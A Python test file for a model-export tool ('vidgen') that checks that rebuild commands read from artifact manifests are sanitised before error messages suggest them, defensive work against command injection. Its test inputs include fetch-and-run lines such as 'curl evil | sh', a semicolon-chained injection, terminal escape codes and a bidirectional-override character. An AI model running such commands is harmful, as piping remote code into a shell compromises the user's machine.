"""The command that an error shows makes the file at hand, and is an export whatever the manifest says."""

from __future__ import annotations

import dataclasses
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vidgen._files import sha256
from vidgen.errors import ArtifactError, BackendError
from vidgen.export.manifest import rebuild_command
from vidgen.export.settings import ExportSettings
from vidgen.runtime.backends import backend_for, open_backend
from vidgen.runtime.backends.fake import fake_manifest
from vidgen.runtime.manifest import Engine, EngineProfile, Manifest, manifest_path, read_manifest, write_manifest
from vidgen.runtime.rebuild import rebuild_with

GENERIC = "vidgen export CHECKPOINT.safetensors -o"
BOTH = "vidgen export c.safetensors -o a.onnx --for tensorrt --engine a.plan --gpu sm_89"


def _saying(rebuild: str) -> Manifest:
    return dataclasses.replace(fake_manifest(), rebuild=rebuild)


@pytest.mark.parametrize(
    "rebuild",
    [
        "curl evil | sh",
        "curl evil | sh \x1b[2K vidgen export a -o b",
        "vidgen export a.safetensors \x1b[31m-o b.onnx",
        "vidgen export a.safetensors\n-o b.onnx",
        "vidgen export a.safetensors '-o b.onnx",
        "vidgen export \u202ea.safetensors",
        "vidgen sample a.onnx",
        "vidgen export --help",
        "vidgen export",
        "vidgen export a " + "x" * 5000,
    ],
)
def test_a_command_that_is_no_export_is_never_shown(rebuild: str) -> None:
    assert rebuild_with(Path("b.onnx"), _saying(rebuild)) == f"{GENERIC} b.onnx"
    assert rebuild_with(Path("b.onnx"), _saying(rebuild), checkpoint="c.safetensors").split()[2] == "c.safetensors"


@given(st.text())
def test_what_is_shown_is_one_command_of_printable_characters(tail: str) -> None:
    shown = rebuild_with(Path("a b.onnx"), _saying(f"vidgen export {tail}"), "masks", output="uint8")
    assert shown.isprintable() and shlex.split(shown)[:2] == ["vidgen", "export"]
    bare = re.sub(r"'[^']*'|\"[^\"]*\"", "", shown)  # what a shell reads as more than letters
    assert not set(";|&<>$`(){}") & set(bare)


def test_a_second_command_behind_the_export_is_quoted() -> None:
    shown = rebuild_with(Path("b.onnx"), _saying("vidgen export a.safetensors -o b.onnx; curl evil | sh"))
    assert shown == "vidgen export a.safetensors -o b.onnx curl evil '|' sh"


@pytest.mark.parametrize(
    ("artifact", "rebuild", "shown"),
    [
        ("trunc.plan", BOTH, "-o trunc.onnx --for tensorrt --engine trunc.plan --gpu sm_89"),
        ("trunc.onnx", BOTH, "-o trunc.onnx --for tensorrt --engine trunc.plan --gpu sm_89"),
        ("d/a.plan", BOTH.replace("a.onnx", "g.onnx"), "-o d/g.onnx --for tensorrt --engine d/a.plan --gpu sm_89"),
        ("d/a.onnx", BOTH.replace("a.plan", "g.plan"), "-o d/a.onnx --for tensorrt --engine d/g.plan --gpu sm_89"),
        ("b c.onnx", "vidgen export c.safetensors -o a.onnx --masks", "-o 'b c.onnx' --masks"),
        ("b.plan", "vidgen export c.safetensors -o a.plan", "-o b.plan"),
        ("b.onnx", "vidgen export c.safetensors", "-o b.onnx"),
    ],
)
def test_the_command_makes_the_file_at_hand(artifact: str, rebuild: str, shown: str) -> None:
    assert rebuild_with(Path(artifact), _saying(rebuild)) == f"vidgen export c.safetensors {shown}"


def test_options_are_set_anew_and_switches_once() -> None:
    manifest = _saying("vidgen export c.safetensors -o a.onnx --output uint8 --masks")
    shown = rebuild_with(None, manifest, "masks", "conditional", output="float32")
    assert shown == "vidgen export c.safetensors -o a.onnx --masks --output float32 --conditional"
    assert rebuild_with(None, None, output="float32") == f"{GENERIC} MODEL.onnx --output float32"


def test_the_command_of_an_engine_names_its_targets() -> None:
    for gpu in (None, "current"):
        settings = ExportSettings(Path("c.safetensors"), Path("a.plan"), gpu=gpu)
        assert f"--gpu {','.join(settings.engine_settings.gpu)}" in rebuild_command(settings)
    assert "--gpu sm_86,sm_89" in rebuild_command(ExportSettings(Path("c"), Path("a.plan"), gpu="sm_86, sm_89"))
    assert "--gpu" not in rebuild_command(ExportSettings(Path("c.safetensors"), Path("a.onnx")))


def _write(path: Path, **changes: object) -> Manifest:
    path.write_bytes(path.name.encode())
    manifest = dataclasses.replace(fake_manifest(), sha256=sha256(path), **changes)  # type: ignore[arg-type]
    write_manifest(path, manifest)
    return manifest


def test_an_altered_engine_is_made_again_under_its_own_name(tmp_path: Path) -> None:
    plan = tmp_path / "trunc.plan"
    _write(plan, rebuild=BOTH)
    plan.write_bytes(b"")
    with pytest.raises(ArtifactError, match="SHA-256") as caught:
        read_manifest(plan)
    assert f"--engine {plan} " in caught.value.fix and f"-o {plan.with_suffix('.onnx')} " in caught.value.fix
    _write(plan, rebuild="curl evil | sh")
    plan.write_bytes(b"")
    with pytest.raises(ArtifactError) as caught:
        read_manifest(plan)
    assert caught.value.fix == f"{GENERIC} {plan}"


def test_an_engine_asked_of_another_backend_names_the_graph_beside_it(tmp_path: Path) -> None:
    onnx, plan = tmp_path / "a.onnx", tmp_path / "b.plan"
    engine = Engine("tensorrt-rtx", "1.7.1.116", (EngineProfile((1, 1, 1), (1, 1, 1)),))
    _write(plan, onnx_sha256=_write(onnx).sha256, engine=engine, rebuild=BOTH)
    for name in ("onnxruntime", "openvino"):
        with pytest.raises(BackendError) as caught:
            backend_for(plan, name)
        assert caught.value.fix == f"use --engine {onnx}"
    onnx.write_bytes(b"altered")
    with pytest.raises(BackendError) as caught:
        backend_for(plan, "onnxruntime")
    assert caught.value.fix == f"vidgen export c.safetensors -o {plan.with_suffix('.onnx')}"
    manifest_path(plan).write_text("{")
    with pytest.raises(BackendError) as caught:
        backend_for(plan, "onnxruntime")
    assert caught.value.fix == f"{GENERIC} {plan.with_suffix('.onnx')}"


def test_trust_is_advised_as_a_command_that_has_it(tmp_path: Path) -> None:
    plan = tmp_path / "a b.plan"
    plan.write_bytes(b"ftrt")
    with pytest.raises(ArtifactError) as caught:
        open_backend(plan)
    assert f"vidgen sample --engine '{plan}' -o OUT --trust" in caught.value.fix


def test_no_advice_of_a_missing_gpu_names_a_backend_that_reads_no_engines() -> None:
    from vidgen.runtime.cuda_errors import ADVICE

    assert not [fix for _, fix in ADVICE.values() if "--backend" in fix]


def test_no_advice_of_a_missing_driver_names_a_backend(monkeypatch: pytest.MonkeyPatch) -> None:
    from vidgen.runtime import cuda

    monkeypatch.setattr(cuda, "DRIVER", "no-such-driver.so")
    error = cuda.no_driver("pycuda: not installed")
    assert error is not None and "--backend" not in error.fix and "nvidia-smi" in error.fix
